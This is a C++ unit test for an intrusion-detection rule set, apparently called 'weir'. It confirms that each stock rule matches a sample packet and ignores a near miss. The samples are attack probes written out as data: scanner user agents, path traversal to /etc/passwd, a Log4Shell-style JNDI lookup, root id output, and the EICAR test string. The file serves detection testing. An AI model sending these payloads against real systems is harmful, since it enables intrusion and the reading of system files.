// SPDX-License-Identifier: Apache-2.0
// The rules that ship: each finds what it speaks of and leaves alone what only looks like it.
#include <gtest/gtest.h>

#include <fstream>
#include <iterator>
#include <set>

#include "tests/unit/rules/packets.h"

namespace weir {
namespace {

struct Proof {
  uint32_t sid;
  const char* hit;
  const char* miss;
};

constexpr Proof kProofs[] = {
    {1000001,
     "GET / HTTP/1.1\r\nHost: a\r\nuser-agent: Mozilla/5.0 (compatible; Nmap Scripting Engine; "
     "https://nmap.org/book/nse.html)\r\n\r\n",
     "GET /Nmap-Scripting-Engine HTTP/1.1\r\nUser-Agent: Mozilla/5.0 (compatible)\r\n\r\n"},
    {1000002, "GET /nice%20ports%2C/Tri%6Eity.txt%2ebak HTTP/1.0\r\n\r\n",
     "see GET /nice%20ports%2C/Tri%6Eity.txt%2ebak HTTP/1.0"},
    {1000003, "GET /?id=1 HTTP/1.1\r\nUser-Agent: sqlmap/1.7#stable (https://sqlmap.org)\r\n\r\n",
     "GET /sqlmap/ HTTP/1.1\r\nUser-Agent: curl/8\r\n\r\n"},
    {1000004, "GET /x?f=../../etc/passwd HTTP/1.1\r\n\r\n",
     "HTTP/1.1 200 OK\r\n\r\n<a href=/etc/passwd>"},
    {1000005, "POST /x?f=..%2F..%2Fetc%2Fpasswd HTTP/1.1\r\n\r\n",
     "GET /x HTTP/1.1\r\nX: %2Fetc%2Fpasswd\r\n\r\n"},
    {1000006, "GET / HTTP/1.1\r\nUser-Agent: ${JnDi:ldap://a/b}\r\n\r\n",
     "GET /?q=jndi:ldap HTTP/1.1\r\n\r\n"},
    {1000007, "uid=0(root) gid=0(root) groups=0(root)\n", "uid=1000(a) gid=1000(a)\n"},
    {1000008, "X5O!P%@AP[4\\PZX54(P^)7CC)7}$EICAR-STANDARD-ANTIVIRUS-TEST-FILE!$H+H*",
     "EICAR-STANDARD-ANTIVIRUS-TEST-FILE"},
};

TEST(StockRules, EachIsProven) {
  std::ifstream file(WEIR_STOCK_RULES, std::ios::binary);
  ASSERT_TRUE(file);
  const std::string text{std::istreambuf_iterator<char>(file), {}};
  const RuleBench bench(text);
  ASSERT_EQ(bench.error, "");
  EXPECT_EQ(bench.set.diagnostics.warnings(), 0u);
  std::set<uint32_t> proven;
  for (const Proof& p : kProofs) {
    EXPECT_EQ(bench.sids({.payload = p.hit}), std::vector<uint32_t>{p.sid});
    EXPECT_EQ(bench.sids({.payload = p.miss}), std::vector<uint32_t>{}) << p.sid;
    proven.insert(p.sid);
  }
  for (const CatalogRule& r : bench.catalog.rules) EXPECT_EQ(proven.count(r.sid), 1u) << r.sid;
}

}  // namespace
}  // namespace weir
